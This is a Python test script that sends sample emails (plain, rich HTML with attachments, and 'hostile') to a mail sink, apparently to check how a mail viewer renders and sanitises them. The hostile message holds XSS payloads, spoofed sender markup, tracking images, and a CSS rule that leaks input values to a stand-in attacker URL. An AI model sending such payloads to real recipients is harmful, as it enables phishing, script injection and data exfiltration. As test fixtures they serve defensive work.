"""Sends one message to the sink with Python's smtplib and writes the
exact bytes it handed to smtplib (CRLF line ends) to stdout.

usage: smtplib_send.py HOST PORT KIND [REMOTE_URL]
KIND: text (UTF-8 subject, 8-bit body as BODY=8BITMIME, lines starting
with dots), rich (text + HTML with an inline image and a remote one, and
two attachments), hostile (HTML that tries to run, load and mislead).
"""

import smtplib
import sys
from email import policy
from email.message import EmailMessage

# A 1x1 red PNG.
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010802000000907753de"
    "0000000c4944415408d763f8cfc000000301010018dd8db00000000049454e44ae426082"
)
PDF = b"%PDF-1.4\n% not really a PDF\n" + bytes(range(256))


def text():
    msg = EmailMessage(policy=policy.SMTP)
    msg["From"] = "Ann Example <ann@example.org>"
    msg["To"] = "Bob <bob@example.org>"
    msg["Subject"] = "Grüße aus Köln ✓"
    msg["Message-ID"] = "<text.1@test.example>"
    msg["X-Custom"] = "kept as sent"
    msg.set_content(
        "Hallo Bob,\n.a line that starts with a dot\n..and two\n.\nünïcödé, 8 bits\n",
        cte="8bit",
    )
    return msg


def rich(remote):
    msg = EmailMessage(policy=policy.SMTP)
    msg["From"] = "Carol <carol@example.org>"
    msg["To"] = "dave@example.org"
    msg["Cc"] = "Erin <erin@example.org>"
    msg["Subject"] = "Quarterly report with a logo"
    msg["Message-ID"] = "<rich.1@test.example>"
    msg.set_content("The report is attached.\n")
    msg.add_alternative(
        "<html><body><h1 id='title'>Quarterly report</h1>"
        "<p><img id='logo' alt='logo' src='cid:logo@test.example' width='16' height='16'></p>"
        f"<p><img id='remote' alt='remote' src='{remote}'></p>"
        "</body></html>",
        subtype="html",
    )
    msg.get_payload()[1].add_related(
        PNG, "image", "png", cid="<logo@test.example>", filename="logo.png"
    )
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="report.pdf")
    msg.add_attachment("a,b\n1,2\n", subtype="csv", filename="données.csv")
    return msg


def hostile(remote):
    msg = EmailMessage(policy=policy.SMTP)
    # The display name claims to be someone else, and carries markup.
    msg["From"] = '"security@bank.example <b>verified</b>" <mallory@attacker.example>'
    msg["To"] = "victim@example.org"
    msg["Subject"] = "<script>parent.document.title='pwned'</script> urgent"
    msg["Message-ID"] = "<hostile.1@test.example>"
    msg.set_content("Plain part.\n")
    msg.add_alternative(
        f"""<html><head>
<meta http-equiv="refresh" content="0; url={remote}refresh">
<style>
@import url('{remote}import.css');
body {{ background: url('{remote}background.png'); }}
input[value^="a"] {{ background: url('{remote}exfiltrate-a'); }}
@font-face {{ font-family: x; src: url('{remote}font.woff'); }}
p {{ font-family: x; }}
</style>
<link rel="stylesheet" href="{remote}link.css">
<script>document.title = 'pwned'; parent.document.body.innerHTML = 'pwned'; fetch('{remote}script');</script>
</head><body onload="parent.document.body.innerHTML='pwned'">
<p id="text">Hostile content</p>
<input value="abc">
<a id="js-link" href="javascript:parent.document.body.innerHTML='pwned'">click me</a>
<img src="x" onerror="parent.document.body.innerHTML='pwned'">
<img id="remote" src="{remote}tracker.png">
<iframe src="{remote}frame"></iframe>
<form action="{remote}form"><button id="submit">go</button></form>
</body></html>""",
        subtype="html",
    )
    return msg


def main():
    host, port, kind = sys.argv[1], int(sys.argv[2]), sys.argv[3]
    remote = sys.argv[4] if len(sys.argv) > 4 else "http://remote.invalid/"
    msg = {"text": text, "rich": lambda: rich(remote), "hostile": lambda: hostile(remote)}[kind]()
    data = msg.as_bytes()
    with smtplib.SMTP(host, port, timeout=30) as smtp:
        smtp.ehlo("smtplib.test")
        options = ["BODY=8BITMIME"] if kind == "text" else []
        rcpts = [a.addresses[0].addr_spec for a in [msg["To"]]]
        if msg["Cc"]:
            rcpts.append(msg["Cc"].addresses[0].addr_spec)
        rcpts.append("hidden-bcc@example.org")
        smtp.sendmail("sender@example.org", rcpts, data, mail_options=options)
    sys.stdout.buffer.write(data)


main()
